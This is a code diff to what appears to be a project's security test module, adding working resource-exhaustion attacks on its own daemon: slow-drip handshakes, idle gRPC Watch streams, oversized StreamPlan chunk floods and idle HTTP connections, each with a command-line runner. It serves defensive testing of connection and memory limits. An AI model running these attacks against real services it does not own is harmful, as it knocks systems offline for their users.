@@ -5,13 +5,14 @@ bounded number of connections, and returns a report of what the target did to it
 containment from the report (connections closed by their deadline, streams refused or ended), a
 benchmark measures a legitimate job's throughput while the attack runs. Run one pinned to its own
 core, so that defence is measured and not CPU contention, with
-``taskset -c N python -m tests.security.attacks NAME HOST:PORT [--option value ...]`` (prints
-the report as JSON).
+``taskset -c N python -m tests.security.attacks NAME ADDRESS [--option value ...]`` (the
+function's keyword arguments; prints the report as JSON).
 """
 
 from __future__ import annotations
 
 import argparse
+import asyncio
 import dataclasses
 import json
 import selectors
@@ -19,9 +20,23 @@ import socket
 import sys
 import threading
 import time
-from collections.abc import Sequence
+from collections.abc import Callable, Iterator, Sequence
+from typing import Any
 
-__all__ = ["HeldReport", "drip_handshakes", "split_address"]
+import grpc
+from grpc_health.v1 import health_pb2, health_pb2_grpc
+
+from kspeed.proto import kspeed_pb2, kspeed_pb2_grpc
+
+__all__ = [
+    "FloodReport",
+    "HeldReport",
+    "drip_handshakes",
+    "flood_stream_plan",
+    "hold_watch_streams",
+    "idle_http_connections",
+    "split_address",
+]
 
 
 @dataclasses.dataclass
@@ -42,10 +57,6 @@ class HeldReport:
     longest_held: float = 0.0
     still_open: int = 0
     refused: int = 0
-
-    def as_dict(self) -> dict:
-        """The report as a JSON-ready dict."""
-        return dataclasses.asdict(self)
 
 
 def split_address(address: str | tuple[str, int]) -> tuple[str, int]:
@@ -83,6 +94,7 @@ def drip_handshakes(
     payload: bytes,
     interval: float = 1.5,
     duration: float = 30.0,
+    reopen_after: float = 0.5,
     sources: Sequence[str] = ("",),
     stop: threading.Event | None = None,
     started: threading.Event | None = None,
@@ -91,8 +103,10 @@ def drip_handshakes(
 
     A listener whose timeout applies to each read, not to the whole handshake, keeps such a
     connection for as long as the payload lasts: ``n`` of them can hold every handshake slot. A
-    connection the target closes is opened again at once, so the slots stay taken unless the
-    target makes room for others.
+    connection the target closes is opened again ``reopen_after`` seconds later, so the slots stay
+    taken unless the target makes room for others. (Opened again at once, the attack becomes a
+    flood of connections, which no cap per address can tell from its address's other clients:
+    that is a matter of rate limits and CPU, not of this attack.)
 
     Args:
         address: the listener (``host:port``, or ``"\\0name"`` for an abstract Unix socket).
@@ -100,6 +114,7 @@ def drip_handshakes(
         payload: the bytes dripped, e.g. a plausible hello (the whole handshake never completes).
         interval: seconds between two bytes on one connection.
         duration: seconds the attack lasts at most.
+        reopen_after: seconds before a connection the target closed is opened again.
         sources: local addresses the connections are bound to, round robin ("" for any): several
             loopback addresses (127.0.0.2, ...) look like several peers.
         stop: ends the attack early when set.
@@ -131,9 +146,11 @@ def drip_handshakes(
     for k in range(n):
         open_one(k)
     next_drip = time.monotonic()
+    reopen: list[tuple[float, int]] = []  # (when, which) connections to open again
     try:
         while time.monotonic() < end and not (stop is not None and stop.is_set()):
-            for key, _ in sel.select(max(0.0, min(next_drip, end) - time.monotonic())):
+            wake = min([next_drip, end, *(when for when, _ in reopen)])
+            for key, _ in sel.select(max(0.0, wake - time.monotonic())):
                 sock = key.fileobj
                 assert isinstance(sock, socket.socket)
                 try:
@@ -143,9 +160,12 @@ def drip_handshakes(
                 except OSError:
                     data = b""
                 if not data:  # (what the target says before closing is of no interest)
-                    k = key.data
                     closed(sock)
-                    open_one(k)
+                    reopen.append((time.monotonic() + reopen_after, key.data))
+            now = time.monotonic()
+            for when, k in [r for r in reopen if r[0] <= now]:
+                reopen.remove((when, k))
+                open_one(k)
             if time.monotonic() >= next_drip:
                 next_drip = time.monotonic() + interval
                 for sock, (opened, sent) in list(born.items()):
@@ -167,29 +187,197 @@ def drip_handshakes(
     return report
 
 
-_ATTACKS = {"drip-handshakes": drip_handshakes}
+def hold_watch_streams(
+    address: str,
+    n: int,
+    *,
+    duration: float = 30.0,
+    renew: bool = True,
+    stop: threading.Event | None = None,
+    started: threading.Event | None = None,
+) -> HeldReport:
+    """Hold ``n`` ``grpc.health.v1`` ``Watch`` streams open on one connection (no token needed).
+
+    A ``Watch`` sends only when the status changes, so nothing ever happens on it: a daemon that
+    counted it among its streams and never ended it gave it away for good. With ``renew`` a stream
+    the target ends (or refuses) is opened again (after 0.2 s), so the target's limits stay tested.
+
+    Args:
+        address: the daemon's gRPC address (``host:port``).
+        n: streams held at once.
+        duration: seconds the attack lasts at most.
+        renew: open a stream again when the target ends or refuses it.
+        stop: ends the attack early when set.
+        started: set once each of the first ``n`` streams was answered (a status, or a refusal).
+
+    The report's ``refused`` counts streams refused at the daemon's caps, ``closed_by_target`` those
+    it ended after their first status.
+    """
+    report = HeldReport()
+    end = time.monotonic() + duration
+
+    async def attack() -> None:
+        channel = grpc.aio.insecure_channel(address)
+        stub = health_pb2_grpc.HealthStub(channel)
+        answered = 0
+        opened_at: dict[int, float] = {}  # the streams open now: when they opened
+
+        def answered_once() -> None:
+            nonlocal answered
+            answered += 1
+            if answered == n and started is not None:
+                started.set()
+
+        async def hold(k: int) -> None:
+            first = True
+            while time.monotonic() < end:
+                call = stub.Watch(health_pb2.HealthCheckRequest())
+                opened = None
+                try:
+                    await call.read()  # the current status: the stream is open
+                    opened = opened_at[k] = time.monotonic()
+                    report.opened += 1
+                    if first:
+                        answered_once()
+                    while await call.read() is not grpc.aio.EOF:
+                        pass
+                except grpc.aio.AioRpcError as exc:
+                    if opened is None:
+                        report.refused += exc.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
+                        if first:
+                            answered_once()
+                if opened is not None:  # ended (status OK) or cancelled by the target
+                    del opened_at[k]
+                    report.closed_by_target += 1
+                    report.longest_held = max(report.longest_held, time.monotonic() - opened)
+                first = False
+                if not renew:
+                    return
+                await asyncio.sleep(0.2)
+
+        tasks = [asyncio.ensure_future(hold(k)) for k in range(n)]
+        while time.monotonic() < end and not (stop is not None and stop.is_set()):
+            await asyncio.sleep(0.05)
+        now = time.monotonic()
+        report.still_open = len(opened_at)
+        report.longest_held = max([report.longest_held, *(now - t for t in opened_at.values())])
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
+        await channel.close()
+
+    asyncio.run(attack())
+    return report
+
+
+@dataclasses.dataclass
+class FloodReport:
+    """What a daemon answered a stream of oversized or unwanted chunks.
+
+    Attributes:
+        code: the call's status name (``OK`` when it was taken).
+        details: the status details.
+        sent: chunks the attacker got out before the call ended.
+    """
+
+    code: str
+    details: str
+    sent: int
+
+
+def flood_stream_plan(
+    address: str,
+    *,
+    feed_id: str = "no-such-feed",
+    chunks: int = 20,
+    chunk_bytes: int = 48 << 20,
+    count: int = 1 << 28,
+    token: str = "",
+) -> FloodReport:
+    """Stream ``chunks`` well-formed plan chunks of about ``chunk_bytes`` each to a server's ``StreamPlan``.
+
+    A server that kept every chunk before it looked at the first one's feed (or at the plan's
+    declared ``count``) grew by the whole stream before it refused it: 20 chunks of 48 MiB took one
+    from 88 MB to 1.6 GB. Needs the cluster token where auth is on (a token holder's attack).
+    """
+    samples = chunk_bytes // 24  # well-formed chunks: int64 ids and offsets, uint32 lengths and positions
+    wide, narrow = bytes(8 * samples), bytes(4 * samples)
+    sent = 0
+
+    def stream() -> Iterator[kspeed_pb2.PlanChunk]:
+        nonlocal sent
+        for k in range(chunks):
+            head = {"feed_id": feed_id, "epoch": 0, "batch_size": 1, "count": count} if k == 0 else {}
+            yield kspeed_pb2.PlanChunk(ids=wide, lengths=narrow, positions=narrow, offsets=wide, **head)
+            sent += 1
+
+    metadata = (("authorization", f"Bearer {token}"),) if token else ()
+    options = [("grpc.max_send_message_length", chunk_bytes + (1 << 20))]
+    with grpc.insecure_channel(address, options=options) as channel:
+        stub = kspeed_pb2_grpc.ServerStub(channel)
+        try:
+            stub.StreamPlan(stream(), timeout=120, metadata=metadata)
+            return FloodReport("OK", "", sent)
+        except grpc.RpcError as exc:
+            return FloodReport(exc.code().name, exc.details() or "", sent)
+
+
+def idle_http_connections(
+    address: str | tuple[str, int],
+    n: int,
+    *,
+    duration: float = 30.0,
+    sources: Sequence[str] = ("",),
+    stop: threading.Event | None = None,
+    started: threading.Event | None = None,
+) -> HeldReport:
+    """Hold ``n`` HTTP connections that never finish their request (a ``G``, then nothing).
+
+    An endpoint with a thread per connection and no deadline kept every one of them: 951 gave a
+    manager 961 threads and 972 open files. Connections the target closes are opened again half
+    a second later.
+    """
+    return drip_handshakes(
+        address,
+        n,
+        payload=b"GET /metrics HTTP/1.1\r\n",
+        interval=max(duration, 1.0),  # its first byte, then silence
+        duration=duration,
+        sources=sources,
+        stop=stop,
+        started=started,
+    )
+
+
+_ATTACKS: dict[str, Callable[..., Any]] = {
+    "drip-handshakes": drip_handshakes,
+    "hold-watch-streams": hold_watch_streams,
+    "flood-stream-plan": flood_stream_plan,
+    "idle-http-connections": idle_http_connections,
+}
 
 
 def main(argv: list[str] | None = None) -> int:
-    """``python -m tests.security.attacks NAME HOST:PORT [--key value ...]``: run one attack, print its report."""
+    """``python -m tests.security.attacks NAME ADDRESS [--key value ...]``: run one attack, print its report.
+
+    Each ``--key value`` is the attack function's keyword argument (numbers as numbers, ``--payload``
+    as text, ``--sources`` comma-separated).
+    """
     parser = argparse.ArgumentParser(description=main.__doc__)
     parser.add_argument("attack", choices=sorted(_ATTACKS))
     parser.add_argument("address")
-    parser.add_argument("--n", type=int, default=32)
-    parser.add_argument("--duration", type=float, default=30.0)
-    parser.add_argument("--interval", type=float, default=1.5)
-    parser.add_argument("--payload", default="KSPEEDTCP2", help="drip-handshakes: the bytes dripped")
-    parser.add_argument("--sources", default="", help="local addresses to bind, comma-separated")
-    args = parser.parse_args(argv)
-    report = drip_handshakes(
-        args.address,
-        args.n,
-        payload=args.payload.encode(),
-        interval=args.interval,
-        duration=args.duration,
-        sources=args.sources.split(",") if args.sources else ("",),
-    )
-    json.dump(report.as_dict(), sys.stdout)
+    args, rest = parser.parse_known_args(argv)
+    kwargs: dict[str, Any] = {}
+    for key, value in zip(rest[::2], rest[1::2]):
+        name = key.lstrip("-").replace("-", "_")
+        if name == "sources":
+            kwargs[name] = value.split(",")
+        elif name == "payload":
+            kwargs[name] = value.encode()
+        else:
+            kwargs[name] = json.loads(value) if value[:1].isdigit() or value[:1] == "-" else value
+    report = _ATTACKS[args.attack](args.address, **kwargs)
+    json.dump(dataclasses.asdict(report), sys.stdout)
     print()
     return 0
 
